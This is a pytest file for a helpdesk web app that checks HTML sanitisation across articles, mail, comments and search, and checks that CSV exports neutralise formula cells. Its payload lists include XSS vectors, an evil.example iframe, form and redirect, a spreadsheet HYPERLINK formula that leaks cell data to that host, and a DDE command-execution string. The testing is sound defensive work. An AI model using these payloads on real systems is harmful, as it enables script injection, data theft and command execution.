"""Stored and shown HTML is inert wherever it comes from: knowledge articles (Markdown with raw
HTML), service-request instructions, HTML mail, replies and work notes, search snippets and
@mentions; and exports escape formula cells, full-width ones included."""

import csv
import io
from html.parser import HTMLParser
from email.message import EmailMessage

import pytest
from django.template import Context, Template
from django.urls import reverse

from opsdesk.catalog.rendering import instructions_html
from opsdesk.core.testing.factories import incident_factory
from opsdesk.incidents.services import comment_create
from opsdesk.intake.parsers.email import mail_parse
from opsdesk.knowledge.services import article_create, markdown_render
from opsdesk.reporting.tables import Table, csv_bytes, formula_safe
from opsdesk.search.snippets import highlight
from opsdesk.web.views.surveys import _csv_safe as survey_cell
from opsdesk.web.views.vendors import _csv_safe as vendor_cell

XSS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "[click](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<iframe src=\"https://evil.example/\"></iframe>",
    "<object data=\"https://evil.example/x.swf\"></object>",
    "<form action=\"https://evil.example/\"><input name=password></form>",
    "<div style=\"background:url(javascript:alert(1))\">styled</div>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>",
    "<details open ontoggle=alert(1)>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
    "<a href=\"jav&#x09;ascript:alert(1)\">tab</a>",
]
RUNNING_TAGS = {"script", "iframe", "frame", "object", "embed", "style", "base", "meta", "svg",
                "math", "link"}
FORM_TAGS = {"form", "input", "button", "textarea", "select"}
BAD_SCHEMES = ("javascript:", "data:", "vbscript:")


class _Tags(HTMLParser):
    """Every real tag with its attributes (escaped text is text, not a tag)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {name: value or "" for name, value in attrs}))


def assert_inert(html: str, *, page: bool = False) -> None:
    """No tag that runs or loads anything, no handler, style or script link; a page's own
    forms are allowed when `page` is set (they are ours, not from the payload)."""
    parser = _Tags()
    parser.feed(html)
    forbidden = RUNNING_TAGS - {"link"} if page else RUNNING_TAGS | FORM_TAGS
    for tag, attrs in parser.tags:
        assert tag not in forbidden, (tag, attrs)
        for name, value in attrs.items():
            assert not name.startswith("on") and name != "style", (tag, name, value)
            if name in ("href", "src", "action", "formaction", "xlink:href"):
                cleaned = "".join(value.split()).lower()
                assert not cleaned.startswith(BAD_SCHEMES), (tag, name, value)


@pytest.mark.parametrize("payload", XSS)
def test_knowledge_markdown_is_sanitised(payload):
    assert_inert(markdown_render(f"Restart the VPN client.\n\n{payload}\n\nThen sign in."))


@pytest.mark.parametrize("payload", XSS)
def test_service_request_instructions_are_sanitised(payload):
    assert_inert(instructions_html(f"Fill in the form.\n\n{payload}"))


def test_an_html_mail_is_sanitised():
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = ("a@example.com",
                                                          "desk@example.com", "Help")
    message.set_content("see html")
    message.add_alternative("<html><body><p>VPN is down</p>" + "".join(XSS) + "</body></html>",
                            subtype="html")
    parsed = mail_parse(message.as_bytes())
    assert "VPN is down" in parsed.body_html
    assert_inert(parsed.body_html)


def test_a_stored_article_page_shows_no_raw_html(org, client):
    article = article_create(by=org.desk, data={
        "title": "VPN <script>alert(1)</script>", "body": "\n\n".join(XSS),
        "type": "solution", "visibility": "internal"})
    client.force_login(org.desk)
    page = client.get(reverse("web:kb_article", args=[article.number]))
    assert page.status_code == 200
    body = page.content.decode()
    assert "VPN &lt;script&gt;alert(1)&lt;/script&gt;" in body
    assert_inert(body[body.index("<main"):], page=True)


def test_replies_and_work_notes_are_escaped_on_the_incident_page(org, client):
    incident = incident_factory(by=org.desk, requester=org.requester,
                                short_description="<img src=x onerror=alert(1)>")
    for payload in XSS:
        comment_create(incident=incident, by=org.desk, body=f"@engineer {payload}",
                       visibility="internal")
    client.force_login(org.desk)
    page = client.get(reverse("web:incident", args=[incident.number]))
    assert page.status_code == 200
    body = page.content.decode()
    assert "&lt;img src=x onerror=alert(1)&gt;" in body
    assert_inert(body[body.index("<main"):], page=True)


def test_search_snippets_and_mentions_escape_the_text(org):
    text = "<script>alert(1)</script> VPN down <img src=x onerror=alert(1)>"
    shown = str(highlight(text, ["vpn"]))
    assert "<mark>VPN</mark>" in shown and "&lt;script&gt;" in shown
    assert_inert(shown)
    template = Template("{% load collab_tags %}{% mention_links text %}")
    rendered = template.render(Context({"text": f"@{org.engineer.username} {text}"}))
    assert "&lt;script&gt;" in rendered
    assert_inert(rendered)


# ---- exports ----------------------------------------------------------------------------------

FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")", "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("text", FORMULAS)
def test_every_csv_writer_quotes_formula_cells(text):
    assert formula_safe(text) == "'" + text
    assert survey_cell(text) == "'" + text
    assert vendor_cell(text) == "'" + text


def test_a_csv_export_reads_back_as_text():
    data = csv_bytes([Table(title="t", columns=["a"], rows=[[text] for text in FORMULAS])])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert [row[0] for row in rows[1:]] == ["'" + text for text in FORMULAS]
